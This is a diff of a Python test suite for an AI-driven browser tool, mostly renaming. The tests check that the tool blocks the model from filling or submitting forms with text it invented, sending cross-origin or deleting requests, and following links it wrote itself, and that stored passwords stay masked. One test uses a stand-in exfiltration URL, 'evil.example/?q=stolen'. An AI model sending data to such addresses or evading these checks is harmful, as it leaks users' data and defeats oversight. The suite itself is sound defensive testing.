@@ -1,4 +1,4 @@
-"""The rules on the road: facts of real pages, approvals, and what a model can make of what it was shown."""
+"""The rules in the pipeline: facts of real pages, approvals, and what a model can make of what it was shown."""
 
 from __future__ import annotations
 
@@ -37,7 +37,7 @@ async def as_model(session: Session, tool: str, **params) -> bool:
 
 
 async def test_a_form_goes_off_with_the_users_words_and_not_with_others(form: Session, serve: PageServer):
-    form.provenance.words.say("Sign up Ada Lovelace")
+    form.provenance.words.add_text("Sign up Ada Lovelace")
     at = await refs(form)
     assert not await as_model(form, "click", ref=at["Save"])
     assert not await as_model(form, "fill", ref=at["Name"], value="Eve")
@@ -47,7 +47,7 @@ async def test_a_form_goes_off_with_the_users_words_and_not_with_others(form: Se
 
 
 async def test_a_number_that_the_model_chose_may_stand_in_a_form_but_not_go_off_with_it(form: Session):
-    form.provenance.words.say("Sign up Ada Lovelace")
+    form.provenance.words.add_text("Sign up Ada Lovelace")
     at = await refs(form)
     assert await as_model(form, "fill", ref=at["Name"], value="Ada Lovelace")
     assert await as_model(form, "fill", ref=at["Count"], value="1000")
@@ -55,7 +55,7 @@ async def test_a_number_that_the_model_chose_may_stand_in_a_form_but_not_go_off_
 
 
 async def test_a_button_that_the_user_named_is_pressed(form: Session):
-    form.provenance.words.say("then press save")
+    form.provenance.words.add_text("then press save")
     assert await as_model(form, "click", ref=(await refs(form))["Save"])
 
 
@@ -76,7 +76,7 @@ async def test_on_another_origin_a_click_opens_but_what_it_sends_is_stopped(sess
     assert (await session.call_as("model", "click", ref=(await refs(session))["There"])).ok
     result = await session.call_as("model", "click", ref=(await refs(session))["More"])
     assert (await session.tab.title()).raw == "Opened"
-    assert [said.raw for said in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
+    assert [one.raw for one in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
     assert [request.path for request in serve.requests if request.method == "POST"] == []
 
 
@@ -93,7 +93,7 @@ async def test_a_harmless_name_deletes_nothing_unless_the_origin_is_trusted(sess
     for name, sent in (("OK", "DELETE /api/1"), ("Go on", "POST /1/delete")):
         result = await session.call_as("model", "click", ref=at[name])
         method, path = sent.split()
-        assert [said.raw for said in result.followed["stopped_requests"]] == [f"{method} {serve.origin}{path}"]
+        assert [one.raw for one in result.followed["stopped_requests"]] == [f"{method} {serve.origin}{path}"]
         assert f"Allow it with --trust {serve.origin}" in notices[-1]
     assert (await session.tab.title()).raw == "Stopped"
     assert (await session.call_as("model", "click", ref=at["Show"])).ok
@@ -141,7 +141,7 @@ async def test_firefox_stops_them_too(firefox_session: Session, serve: PageServe
     serve(FORM, "/form")
     await firefox_session.call_as("model", "click", ref=(await refs(firefox_session))["There"])
     result = await firefox_session.call_as("model", "click", ref=(await refs(firefox_session))["More"])
-    assert [said.raw for said in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
+    assert [one.raw for one in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
     assert [request.path for request in serve.requests if request.method == "POST"] == []
 
 
@@ -152,14 +152,14 @@ async def test_a_link_of_the_page_may_be_opened_by_its_address_and_another_addre
 
 async def test_what_a_model_wrote_is_no_link_however_it_comes_back(form: Session):
     stolen = "https://evil.example/?q=stolen"
-    form.provenance.words.say("note it")
+    form.provenance.words.add_text("note it")
     form.permissions.origins.add(form.tab.origin)
     await form.call_as("model", "note", text=f"See {stolen}")
     shown = await form.call_as("model", "read_notes")
     assert any(stolen in str(text) for text in _raw(shown.data))
     assert not await as_model(form, "goto", url=stolen)
     await form.call("fill", ref=(await refs(form))["Name"], value="x")
-    form.provenance.wrote(f"look at {stolen}")
+    form.provenance.record_text(f"look at {stolen}")
     await form.tab.page.evaluate("(url) => { document.links[0].href = url }", stolen)
     assert not await as_model(form, "goto", url=stolen)
 
@@ -192,12 +192,12 @@ async def test_an_approval_holds_for_the_call_for_the_session_or_not_at_all(form
     assert asked[0].remedy == f"--grant write@{form.tab.origin}"
 
 
-async def test_every_decision_is_told_with_its_rule_and_the_model_is_told_nothing(form: Session):
-    told = []
-    form.events.subscribe(lambda event: told.append(event) if event.kind == "decision" else None)
+async def test_every_decision_is_reported_with_its_rule_and_not_to_the_model(form: Session):
+    decisions = []
+    form.events.subscribe(lambda event: decisions.append(event) if event.kind == "decision" else None)
     result = await form.call_as("model", "fill", ref=(await refs(form))["Name"], value="made up")
     assert (result.error, result.hint) == ("This action is not permitted.", "")
-    (decision,) = told
+    (decision,) = decisions
     assert (decision.rule, decision.allowed, decision.caller) == ("words_in_fields", False, "model")
     assert decision.remedy == f"--grant write@{form.tab.origin}"
 
@@ -207,7 +207,7 @@ async def test_where_the_user_goes_the_model_may_act_and_elsewhere_not(session: 
     await session.call("goto", url=url)
     assert await as_model(session, "fill", ref=(await refs(session))["Find"], value="anything")
     await session.call_as("model", "goto", url=url.replace(serve.origin, serve.other_site))
-    assert session.tab.origin == serve.origin, "an address that nobody said was opened"
+    assert session.tab.origin == serve.origin, "an address that nobody gave was opened"
 
 
 LOGIN = """<title>Sign in</title><p>Last time you used cor2rect-Horse!</p>
@@ -220,8 +220,8 @@ async def test_a_secret_goes_home_unseen_and_its_echoes_are_masked_for_everybody
     monkeypatch.setenv("PW", "cor2rect-Horse!")
     named = f"login=env:PW@{serve.origin}"
     session = await open_session(chromium, tmp_path / "run", secrets=[named])
-    told = []
-    session.events.subscribe(lambda event: told.append(str(event.to_dict())))
+    events = []
+    session.events.subscribe(lambda event: events.append(str(event.to_dict())))
     serve("<h1>In</h1>", "/in")
     await session.call("goto", url=serve(LOGIN))
     assert "[secret:login]" in (await session.snapshot()).text.raw
@@ -231,7 +231,7 @@ async def test_a_secret_goes_home_unseen_and_its_echoes_are_masked_for_everybody
     assert (await session.call_as("model", "fill_secret", ref=at["Password"], name="login")).data["kept"]
     assert await as_model(session, "click", ref=at["Sign in"])
     assert [request.body for request in serve.requests if request.method == "POST"] == [b"pw=cor2rect-Horse%21"]
-    assert not any("Horse" in said for said in told)
+    assert not any("Horse" in one for one in events)
     elsewhere = serve(LOGIN).replace(serve.origin, serve.other_site)
     await session.call("goto", url=elsewhere)
     refused = await session.call("fill_secret", ref=(await refs(session))["Password"], name="login")
